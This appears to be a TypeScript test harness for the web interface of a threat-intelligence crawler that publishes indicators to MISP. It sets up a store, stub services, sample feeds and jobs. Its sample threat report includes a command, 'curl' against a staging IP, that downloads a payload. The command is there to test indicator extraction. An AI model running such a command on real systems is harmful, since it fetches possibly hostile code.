import { rmSync } from 'node:fs';
import { copyFile, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { Article, CrawlRequest, Evidence, FeedHealth, Indicator } from '../../../src/domain.ts';
import { Permanent } from '../../../src/errors.ts';
import { loadFeedList } from '../../../src/feeds/list/load.ts';
import type { FeedEntry, FeedEntryInput } from '../../../src/feeds/list/schema.ts';
import { requestRevision } from '../../../src/pipeline/revise.ts';
import type { Saved } from '../../../src/pipeline/saved.ts';
import { sendArticle, submit } from '../../../src/pipeline/submit.ts';
import { PRIORITY, type Store } from '../../../src/queue/ports.ts';
import { openSqlite } from '../../../src/queue/sqlite/open.ts';
import { createWeb } from '../../../src/web/app.ts';
import type { AuditEntry } from '../../../src/web/audit.ts';
import { openUsers, type Users } from '../../../src/web/auth/users.ts';
import type { ChannelView, WebDeps } from '../../../src/web/deps.ts';
import { type Listening, type ListenOptions, listen } from '../../../src/web/listen.ts';
import { makePng } from '../../site/index.ts';
import type { TestApp } from './visitor.ts';

/** The site on a real store, with the rest of the product played by a few lines each. */
export interface WebUnderTest {
  /** Requests of somebody who opened the start link (as long as no user exists), unless they bring a cookie or token of their own. */
  app: TestApp;
  /** Requests as they are. */
  stranger: ReturnType<typeof createWeb>;
  deps: WebDeps;
  store: Store;
  users: Users;
  audited: AuditEntry[];
  /** What deps.saved() answers, by job id. */
  saved: Map<string, Saved>;
  /** As the list says now. */
  readonly feeds: FeedEntry[];
  folder: string;
  listen(options?: Partial<ListenOptions>): Promise<Listening>;
  close(): Promise<void>;
}

const START_TOKEN = 'start-token-of-the-tests';
export const startLink = (url: string): string => `${url}/login?token=${START_TOKEN}`;
/** For programs: what opens a site without users. */
export const startHeaders = { authorization: `Bearer ${START_TOKEN}` };

/** Programs (the API, without headers of a browser) show the start token; everything else has the session of the start link. */
async function openedByStartLink(app: ReturnType<typeof createWeb>, { users }: WebDeps, audited: AuditEntry[]): Promise<TestApp> {
  const open = async () => {
    const response = await app.request(startLink('http://localhost'), { headers: { host: 'localhost' } });
    audited.splice(
      audited.findIndex(({ action }) => action === 'login'),
      1,
    );
    return /mc_session=[^;]*/.exec(response.headers.getSetCookie().join('\n'))?.[0];
  };
  let session: string | undefined;
  return {
    startSession: async () => ((await users.empty()) ? open() : undefined),
    request: async (input, init) => {
      const request = input instanceof Request ? input : new Request(new URL(input, 'http://localhost'), init);
      const { headers } = request;
      const known = headers.has('authorization') || headers.has('cookie') || !(await users.empty().catch(() => false));
      if (known) return app.request(request);
      const byBrowser = headers.has('origin') || headers.has('sec-fetch-site');
      if (request.url.includes('/api/') && !byBrowser) headers.set('authorization', startHeaders.authorization);
      else {
        session ??= await open();
        if (session) headers.set('cookie', session);
      }
      return app.request(request);
    },
  };
}

let made: Promise<string> | undefined;

/** A database with all its tables, made once for all the sites of a process: a copy of it costs a tenth. */
function emptyStore(): Promise<string> {
  made ??= (async () => {
    const path = join(await mkdtemp(join(tmpdir(), 'web-test-store-')), 'store.db');
    await (await openSqlite({ path })).close();
    process.once('exit', () => rmSync(dirname(path), { recursive: true, force: true }));
    return path;
  })();
  return made;
}

export async function openWeb(
  changes: Partial<Omit<WebDeps, 'settings'>> & { settings?: Partial<WebDeps['settings']> } = {},
): Promise<WebUnderTest> {
  const folder = await mkdtemp(join(tmpdir(), 'web-test-'));
  const path = join(folder, 'store.db');
  await copyFile(await emptyStore(), path);
  const store = await openSqlite({ path });
  // The cost of a real hash is another spec's; here hundreds of logins would wait for it.
  const users = openUsers(join(folder, 'auth.json'), { scryptN: 2 ** 10 });
  const audited: AuditEntry[] = [];
  const saved = new Map<string, Saved>();
  const feedList = join(folder, 'feeds.json');
  await writeFeeds({ feedList, store }, ...sampleFeeds());
  const listeners: Listening[] = [];
  const { settings, ...others } = changes;
  const deps: WebDeps = {
    store,
    submit: (request, { again }) => submit({ request, priority: PRIORITY.manual, again }, store),
    preview: async (request) => {
      if (request.url.includes('blocked')) throw new Permanent('HTTP=403', 'The site answers 403 (forbidden): try another user agent.');
      return { article: sampleArticle({ url: request.url, canonicalUrl: request.url }), evidence: [screenshot()] };
    },
    sendArticle: (request, read) => sendArticle(request, read, PRIORITY.manual, { ...store, keepMs: 3_600_000 }),
    reviseEvent: (job, revision, decided) => requestRevision(job, revision, decided, { ...store, keepMs: 3_600_000 }),
    galaxies: async () => [
      { uuid: '', ids: [], tag: 'misp-galaxy:threat-actor="APT29"', galaxy: 'threat-actor', value: 'APT29', synonyms: ['Cozy Bear'] },
      { uuid: '', ids: [], tag: 'misp-galaxy:tool="Cobalt Strike"', galaxy: 'tool', value: 'Cobalt Strike', synonyms: [] },
    ],
    saved: async (id) => saved.get(id),
    feedList,
    watchlists: join(folder, 'watchlists.json'),
    discoverFeeds: async (site) => [
      {
        url: new URL('/feed.xml', site).href,
        title: 'Harbour Labs',
        entries: [{ url: new URL('/a', site).href, title: 'First entry', published: '2026-11-20T08:00:00Z' }],
      },
    ],
    pollFeed: async () => ({ ok: true, message: '12 entries, 1 new' }),
    notifications: {
      read: async () => ({ file: 'notify.json', channels: sampleChannels() }),
      test: async (name) =>
        name === 'soar'
          ? { ok: false, message: 'Channel "soar": soar.example answered 403.' }
          : { ok: true, message: `A test was sent to ${name}.` },
    },
    publisher: {
      names: ['MISP'],
      mispUrl: 'https://misp.example',
      infoPrefix: 'Scraper: ',
      tags: ['misp:tool="misp-crawler"', 'osint:source-type="blog-post"', 'tlp:clear', 'workflow:state="incomplete"'],
    },
    outputs: async () => [
      { name: 'misp', label: 'MISP', target: 'https://misp.example', ok: true, message: 'Version 2.5.1, key of user crawler.' },
    ],
    workers: async () => [
      {
        host: 'crawler-1',
        pid: 4120,
        version: '0.1.0',
        startedAt: Date.now() - 7_200_000,
        pages: 4,
        running: [{ what: 'The page https://blog.example.com/quillrat', since: Date.now() - 4_000 }],
      },
    ],
    feedFolder: join(folder, 'feed'),
    users,
    startToken: START_TOKEN,
    audit: async (entry) => {
      audited.push(entry);
    },
    log: { info: () => {}, warn: () => {}, error: (...line: unknown[]) => console.error(line) },
    metrics: async () => '# HELP up 1 while it runs\nup 1\n',
    ready: async () => ({
      ok: true,
      checks: [
        { name: 'queue', ok: true, message: 'SQLite file data/store.db (3.1 MB)' },
        { name: 'browser', ok: true, message: 'Chromium 142 at /usr/bin/chromium' },
      ],
    }),
    ...others,
    settings: {
      host: '127.0.0.1',
      ssoHeader: undefined,
      basePath: '',
      publicHosts: [],
      trustedProxies: [],
      sessionMs: 3_600_000,
      uploadBytes: 2 * 1024 ** 2,
      requestsPerMinute: 100_000,
      ...settings,
    },
  };
  const stranger = createWeb(deps);
  return {
    app: await openedByStartLink(stranger, deps, audited),
    stranger,
    deps,
    store,
    users,
    audited,
    saved,
    get feeds() {
      return loadFeedList(feedList).feeds;
    },
    folder,
    listen: async (options = {}) => {
      const listening = await listen(stranger, {
        host: '127.0.0.1',
        port: 0,
        sso: false,
        users,
        log: deps.log,
        requestMs: 30_000,
        ...options,
      });
      listeners.push(listening);
      return listening;
    },
    close: async () => {
      for (const listening of listeners) await listening.close();
      await store.close();
      await rm(folder, { recursive: true, force: true });
    },
  };
}

const screenshot = (): Evidence => ({
  kind: 'screenshot',
  fileName: 'screenshot.png',
  contentType: 'image/png',
  bytes: new Uint8Array(makePng(800, 600)),
});

/** An article with one value of each verdict, in prose, a table and code. */
export function sampleArticle(changes: Partial<Article> = {}): Article {
  const markdown = `Since September a group has used a loader that hides among printer drivers. It talks to portside-metrics[.]com and keeps 45.142.213[.]67 for staging.

## Files

| File name | SHA-256 | First seen | Remark |
| --- | --- | --- | --- |
| prnmon64.dll | 6f1ed002ab5595859014ebf0951522d9a1bd1b1e6ccf6b1b6bc9c8f6e1a4d2b7 | in September | The loader, unsigned |

\`\`\`
curl http://45.142.213.67/drv/setup.cab
\`\`\`

- Patch CVE-2023-34362 first.
- See [the vendor's advice](https://vendor.example/advice), and ![a diagram](https://vendor.example/d.png).
`;
  const value = (type: Indicator['type'], raw: string, rest: Partial<Indicator>): Indicator => ({
    type,
    value: raw.replaceAll('[.]', '.'),
    defanged: raw.includes('[.]'),
    verdict: 'indicator',
    toIds: true,
    reason: 'defanged in prose',
    context: { kind: 'prose', snippet: `… ${raw} …` },
    occurrences: [{ start: markdown.indexOf(raw), end: markdown.indexOf(raw) + raw.length, raw, code: false, target: false }],
    ...rest,
  });
  return {
    url: 'https://blog.example.com/cinder-wharf',
    canonicalUrl: 'https://blog.example.com/cinder-wharf',
    title: 'Operation Cinder Wharf',
    author: 'Mara Lindqvist',
    published: '2026-11-20T08:30:00Z',
    markdown,
    text: markdown,
    contentHash: '0'.repeat(64),
    indicators: [
      value('domain', 'portside-metrics[.]com', {}),
      value('ipv4', '45.142.213[.]67', {}),
      value('sha256', '6f1ed002ab5595859014ebf0951522d9a1bd1b1e6ccf6b1b6bc9c8f6e1a4d2b7', {
        reason: 'in a table of hashes',
        context: { kind: 'table', heading: 'Files', column: 'SHA-256', row: ['prnmon64.dll', '6f1e…'] },
      }),
      value('cve', 'CVE-2023-34362', {
        verdict: 'context',
        toIds: false,
        reason: 'vulnerability',
        context: { kind: 'list', heading: 'Files' },
      }),
      value('filename', 'prnmon64.dll', {
        verdict: 'junk',
        toIds: false,
        reason: 'a file name alone',
        context: { kind: 'table', heading: 'Files' },
      }),
    ],
    figures: [],
    via: 'readability',
    notes: ['Removed a newsletter box.', 'Kept a table that readability had dropped.'],
    ...changes,
  };
}

/** Puts feeds in the place of those in the list, and what is known of them into the ledger. */
export async function writeFeeds(
  { feedList, store }: Pick<WebDeps, 'feedList' | 'store'>,
  feeds: FeedEntryInput[],
  health: FeedHealth[],
): Promise<void> {
  await writeFile(feedList, JSON.stringify({ feeds }, null, 2));
  for (const one of health) await store.ledger.saveFeed(one);
}

function sampleFeeds(): [FeedEntryInput[], FeedHealth[]] {
  const now = Date.now();
  const health = (url: string, changes: Partial<FeedHealth> = {}): FeedHealth => ({
    url,
    failures: 0,
    lastPollAt: now - 600_000,
    lastSuccessAt: now - 600_000,
    nextPollAt: now + 3_000_000,
    entries: 20,
    newEntries: 1,
    ...changes,
  });
  return [
    [
      { title: 'Harbour Labs', url: 'https://blog.example.com/feed.xml', tags: [] },
      { title: 'Dockside reversing', url: 'https://dockside.example/rss', tags: ['source:reversing'] },
      { title: 'Old lighthouse', url: 'https://lighthouse.example/atom.xml', tags: [] },
      { title: 'Quiet bay', url: 'https://quiet.example/feed.json', tags: [], enabled: false },
    ],
    [
      health('https://blog.example.com/feed.xml'),
      health('https://dockside.example/rss'),
      health('https://lighthouse.example/atom.xml', {
        failures: 5,
        failingSince: now - 90_000_000,
        lastError: 'The server answers 410 (gone): remove the feed, or find its new address.',
      }),
    ],
  ];
}

function sampleChannels(): ChannelView[] {
  const common = { enabled: true, filter: {}, digest: 'each', dailyAt: '08:00', timezone: 'UTC' } as const;
  return [
    {
      ...common,
      name: 'analysts',
      kind: 'slack',
      events: ['watchlist-hit', 'misp-down'],
      receiver: 'the address in SLACK_WEBHOOK',
      secrets: [{ name: 'SLACK_WEBHOOK', isSet: true }],
      last: { at: Date.now() - 3_600_000, ok: true, message: 'Watchlist hit: Operation Cinder Wharf' },
    },
    {
      ...common,
      name: 'morning mail',
      kind: 'email',
      events: ['new-event'],
      receiver: 'cti@example.org through mail.example.org:587',
      digest: 'daily',
      timezone: 'Europe/Brussels',
      filter: { minIndicators: 1 },
      secrets: [{ name: 'SMTP_PASSWORD', isSet: false }],
    },
    {
      ...common,
      name: 'soar',
      kind: 'webhook',
      events: ['new-event', 'watchlist-hit'],
      receiver: 'soar.example',
      secrets: [],
      quietHours: { from: '22:00', to: '06:00' },
      last: { at: Date.now() - 60_000, ok: false, message: 'Channel "soar": soar.example answered 500.' },
    },
  ];
}

/** Jobs in every state, with saved article where they are done; returns their ids by state. */
export async function fillStore(web: WebUnderTest): Promise<Record<'done' | 'failed' | 'waiting' | 'active' | 'delayed', string>> {
  const { queue, ledger } = web.store;
  const feed = { kind: 'feed', title: 'Harbour Labs', url: 'https://blog.example.com/feed.xml', tags: ['source:harbour'] } as const;
  const add = async (path: string, title: string, source: CrawlRequest['source'] = { ...feed, tags: [...feed.tags] }) => {
    const { job } = await queue.add({
      key: `blog.example.com${path}`,
      request: { url: `https://blog.example.com${path}`, source, title },
      priority: PRIORITY.feed,
    });
    return job.id;
  };
  const lease = async (lane: 'crawl' | 'publish') => {
    const taken = await queue.take(lane, 'test', 3_600_000);
    if (!taken) throw new Error(`nothing to take in ${lane}`);
    return taken;
  };
  const done = await add('/cinder-wharf', 'Operation Cinder Wharf: a loader that hides among printer drivers');
  await queue.advance(await lease('crawl'), { ms: 2310 });
  await queue.finish(
    await lease('publish'),
    {
      status: 'created',
      message: 'The event was created with 3 indicators.',
      title: 'Operation Cinder Wharf: a loader that hides among printer drivers',
      eventUuid: '6b1ff0b1-5a0b-5f0e-9d53-5a4f3c2b1a00',
      eventUrl: 'https://misp.example/events/view/6b1ff0b1-5a0b-5f0e-9d53-5a4f3c2b1a00',
      indicators: 3,
      attributes: 8,
      audit: { added: 1, corrected: 2, removed: 4 },
    },
    { ms: 512 },
  );
  web.saved.set(done, { article: sampleArticle(), evidence: [screenshot()] });
  const failed = await add('/members/briefing', 'Members only: briefing of November');
  await queue.fail(await lease('crawl'), {
    code: 'HTTP=403',
    message: 'The site answers 403 (forbidden): retry with another user agent, or upload the page as HTML.',
  });
  const delayed = await add('/slow', 'Grey Petrel has time: one beacon a day');
  await queue.retry(await lease('crawl'), { code: 'timeout', message: 'The page did not finish loading within 60 s.' }, 3_600_000);
  const active = await add('/quillrat', 'Quillrat comes by invoice: phishing against freight brokers');
  await lease('crawl');
  const waiting = await add('/mothlamp', 'Unpacking Mothlamp, stage by stage');
  const today = Date.now();
  for (let back = 0; back < 28; back++) {
    const day = new Date(today - back * 86_400_000).toISOString().slice(0, 10);
    const n = (back * 7) % 11;
    await ledger.count(day, 'Harbour Labs', 'created', n);
    await ledger.count(day, 'Harbour Labs', 'indicators', n * 9 + (back % 5) * 4);
    await ledger.count(day, 'Dockside reversing', 'created', back % 3);
    if (back % 4 === 0) await ledger.count(day, 'Harbour Labs', 'failed', 1);
    if (back % 4 === 0) await ledger.count(day, 'Harbour Labs', 'failed:HTTP=403', 1);
    if (back % 9 === 0) await ledger.count(day, 'Dockside reversing', 'failed:timeout', 1);
  }
  return { done, failed, waiting, active, delayed };
}
export { documentOf, type TestApp, type Visitor, visitor } from './visitor.ts';
